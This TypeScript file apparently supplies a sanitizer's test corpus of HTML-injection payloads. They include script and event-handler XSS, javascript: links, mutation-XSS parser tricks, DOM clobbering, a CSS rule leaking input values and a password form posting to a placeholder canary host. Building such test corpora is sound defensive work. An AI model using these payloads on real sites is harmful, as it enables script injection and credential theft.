import type { Attack } from "./attack.ts";

/**
 * A host that nobody may ask anything of. What is under `/run/` would be asked for by something that runs, dresses or
 * frames; what is under `/seen/` by a picture, sound or film.
 */
export const CANARY = "http://canary.test";

const run = `${CANARY}/run`;
const seen = `${CANARY}/seen`;

/** Ours, a few of each class: what they are named after is what would go wrong. */
const VECTORS: Readonly<Record<string, readonly string[]>> = {
	script: [
		`<script>alert("a script")</script>`,
		`<ScRiPt src="${run}/script.js"></sCrIpT >words`,
		`<script type="module">import "${run}/module.js"; alert(2)</script>`,
		`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${run}/speculation"]}]}</script>`,
		`<script type="importmap">{"imports":{"react":"${run}/react.js"}}</script>`,
		`<svg><script href="${run}/drawing.js">alert(3)</script></svg>`,
		`</script><script>alert("a closer first")</script>`,
	],
	handler: [
		`<img src="/not-there-7.png" onerror="alert('a picture')" alt="a picture">`,
		`<p onclick="alert('a tap')" onpointerover="alert('a pointer')">tap here</p>`,
		`<details open ontoggle="alert('opened')"><summary>more</summary>inside</details>`,
		`<div style="animation:spin 1s" onanimationstart="alert('moves')">moving words</div>`,
		`<video onloadstart="alert('film')" onerror="alert('no film')"><source src="/no.mp4" onerror="alert('part')"></video>`,
		`<p tabindex="0" autofocus onfocus="alert('focus')" onfocusin="alert('in')">focused words</p>`,
		`<button popovertarget="hostile-pop">opener</button><p id="hostile-pop" popover onbeforetoggle="alert('pop')">popped</p>`,
		`<marquee onstart="alert('marquee')">running words</marquee>`,
		`<p oncontentvisibilityautostatechange="alert('visible')" style="content-visibility:auto">seen words</p>`,
		`<input type="hidden" accesskey="x" onclick="alert('key')">after the key`,
	],
	address: [
		`<a href="javascript:alert('address')">a link</a>`,
		`<a href="&#x6a;ava&Tab;script&colon;alert('written otherwise')">another link</a>`,
		`<a href="\u0001 javascript:alert('control')">control link</a>`,
		`<a href="data:text/html,<script>alert(4)</script>">data link</a>`,
		`<a href="vbscript:alert(5)">old link</a> <a href="blob:${CANARY}/1">blob link</a>`,
		`<svg><a xlink:href="javascript:alert('drawn')"><text y="20">drawn link</text></a></svg>`,
		`<math href="javascript:alert('formula')"><mi>formula</mi></math>`,
		`<svg><a><animate attributeName="href" values="javascript:alert('animated')"></animate><text y="20">animated</text></a></svg>`,
		`<a href="https://bank.example@canary.test/">the bank</a>`,
		`<a href="//canary.test\\@site.example/" ping="${run}/ping">pinging link</a>`,
	],
	frame: [
		`<iframe src="javascript:parent.alert('framed')"></iframe>`,
		`<iframe srcdoc="<script>parent.alert('inner page')</script>">inside</iframe>`,
		`<iframe src="${run}/frame" title="a frame"></iframe>`,
		`<object data="${run}/object"><p>in place of it</p></object><embed src="${run}/embed">`,
		`<object data="data:text/html,<script>parent.alert(6)</script>" type="text/html"></object>`,
		`<frameset onload="alert('frameset')"><frame src="${run}/frameset"></frameset>after frames`,
	],
	page: [
		`<base href="${run}/base/">a base <a href="x">leads away</a>`,
		`<meta http-equiv="refresh" content="0;url=${run}/refresh">refreshed`,
		`<meta http-equiv="Content-Security-Policy" content="script-src *">loosened`,
		`<link rel="stylesheet" href="${run}/sheet.css"><link rel="prefetch" href="${run}/prefetch">`,
		`<link rel="manifest" href="${run}/manifest"><link rel="modulepreload" href="${run}/preload.js">linked`,
		`<body onload="alert('body')" background="${seen}/background.png">body words`,
		`<title>Stolen title</title></title><html manifest="${run}/cache">titled`,
	],
	style: [
		`<style>.masthead{display:none!important} @import "${run}/import.css";</style>styled`,
		`<style>input[value^="a"]{background:url(${run}/leak-a)}</style>leaked`,
		`<p style="position:fixed;inset:0;z-index:2147483647;background:red">over all words</p>`,
		`<div style="position:absolute;top:-3000px;left:0;width:9999px;height:9999px">above all words</div>`,
		`<div style="background:url(${seen}/style.png);width:5000px;margin-left:-2000px">wide words</div>`,
		`<div class="fixed inset-0 z-50 skip-link masthead reply-nickname">borrowed classes</div>`,
		`<p style="transform:scale(400);filter:blur(2px);mix-blend-mode:difference">scaled words</p>`,
		`<a href="/x/" style="display:block;position:fixed;inset:0">a link over all</a>`,
		`<dialog open style="position:fixed;inset:0">a dialog's words</dialog>`,
	],
	form: [
		`<form action="${run}/form" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
		`<form id="f1"></form><button form="f1" formaction="javascript:alert('sent')">send words</button>`,
		`<input type="image" src="${seen}/button.png" alt="image button"><textarea autofocus onfocus="alert(7)">typed</textarea>`,
		`<select onfocus="alert(8)" autofocus><option>chosen<selectedcontent></selectedcontent></option></select>picked`,
		`<p contenteditable onbeforeinput="alert(9)">editable words</p>`,
		`<isindex action="javascript:alert(10)" type="image"><keygen autofocus onfocus="alert(11)">asked`,
	],
	clobbering: [
		`<p id="root">one</p><p id="main">two</p><h2 id="state">three</h2><h2 id="reply">four</h2>`,
		`<form name="createElement"><input name="attributes"><input name="nodeName"></form>named`,
		`<img name="getElementById" src="/x.png" alt=""><a id="defaultView" name="cookie" href="/y/">clobbered</a>`,
		`<h2>navigation</h2><h2>Document</h2><h3>Constructor</h3><h3>__proto__</h3>`,
		`<a id="config"></a><a id="config" name="url" href="${run}/config">configured</a>`,
	],
	mutation: [
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(12)&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(13)>">mutated`,
		`<noscript><p title="</noscript><img src=x onerror=alert(14)>">unscripted</p></noscript>`,
		`<template shadowrootmode="open"><img src=x onerror=alert(15)></template>shadowed`,
		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(16) src>">`,
		`<xmp><p title="</xmp><img src=x onerror=alert(17)>">listed</p></xmp>`,
		`<svg><foreignObject><body><img src=x onerror=alert(18)></body></foreignObject></svg>foreign`,
		`<!--><img src=x onerror=alert(19)>-->commented <![CDATA[<img src=x onerror=alert(20)>]]>`,
		`<p title="\`><img src=x onerror=alert(21)>">ticked</p>`,
	],
	media: [
		`<img src="${seen}/one.png" srcset="${seen}/two.png 300w, ${seen}/three.png 600w" alt="far away" width="300" height="200">`,
		`<picture><source srcset="${seen}/four.png"><img src="data:image/svg+xml,<svg onload=alert(22)>" alt="drawn"></picture>`,
		`<video poster="${seen}/poster.png" src="${seen}/film.mp4" autoplay></video><audio src="${seen}/sound.mp3" autoplay></audio>`,
		`<video><track default src="${run}/track.vtt"></video><img lowsrc="${seen}/low.png" dynsrc="${seen}/dyn.png">`,
		`<svg><image href="${seen}/drawn.png"/><use href="${run}/use.svg#x"/></svg><table background="${seen}/table.png"><tr><td>cell`,
	],
	unclosed: [
		`<img src="/x.png" alt="left open onerror=alert(23) //`,
		`<a href="javascript:alert(24)//`,
		`<textarea>never closed`,
		`<plaintext>all that follows is plain`,
		`<table><tr><td><a href="javascript:alert(25)">cell without end`,
	],
};

/** Every one of our own attacks. */
export function ownAttacks(): Attack[] {
	return Object.entries(VECTORS).flatMap(([name, list]) =>
		list.map((html, at) => ({ name: `${name} ${at + 1}`, corpus: "own", html })),
	);
}
